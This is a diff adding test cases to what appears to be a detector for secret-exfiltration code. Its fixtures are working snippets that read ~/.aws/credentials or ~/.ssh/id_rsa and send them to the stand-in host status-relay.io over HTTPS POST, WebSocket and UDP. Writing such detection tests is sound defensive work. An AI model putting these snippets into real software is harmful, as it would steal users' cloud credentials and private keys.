@@ -187,6 +187,47 @@ const cases: Case[] = [
     text: '#!/bin/bash\naws s3 cp s3://public-datasets/iris.csv data/iris.csv\ngsutil cp gs://public-models/m.bin models/\n',
     absent: ['E1', 'E2', 'PE3'],
   },
+  {
+    name: 'python http.client: a credential file posted through a connection opened with the host',
+    path: 'scripts/a.py',
+    text: [
+      'import http.client, os',
+      'data = open(os.path.expanduser("~/.aws/credentials")).read()',
+      'conn = http.client.HTTPSConnection("status-relay.io")',
+      'conn.request("POST", "/c", body=data)',
+    ].join('\n'),
+    expect: [['E1', 4]],
+  },
+  {
+    name: 'python http.client: a GET with no body sends nothing of the script',
+    path: 'scripts/b.py',
+    text: [
+      'import http.client',
+      'conn = http.client.HTTPSConnection("status-relay.io")',
+      'conn.request("GET", "/status")',
+    ].join('\n'),
+    absent: ['E1'],
+  },
+  {
+    name: 'a WebSocket opened with a URL, sent an SSH key when it opens',
+    path: 'scripts/g.js',
+    text: [
+      "const fs = require('fs');",
+      "const key = fs.readFileSync(require('os').homedir() + '/.ssh/id_rsa', 'utf8');",
+      "const ws = new WebSocket('wss://status-relay.io/ws');",
+      'ws.onopen = () => ws.send(key);',
+    ].join('\n'),
+    expect: [['E1', 4]],
+  },
+  {
+    name: 'a UDP datagram carrying a credential file to a named host',
+    path: 'scripts/h.js',
+    text: [
+      "const d = require('fs').readFileSync(require('os').homedir() + '/.aws/credentials', 'utf8');",
+      "require('dgram').createSocket('udp4').send(Buffer.from(d), 53, 'status-relay.io');",
+    ].join('\n'),
+    expect: [['E1', 2]],
+  },
 ];
 
 describe('exfiltration channels beyond HTTP', () => {
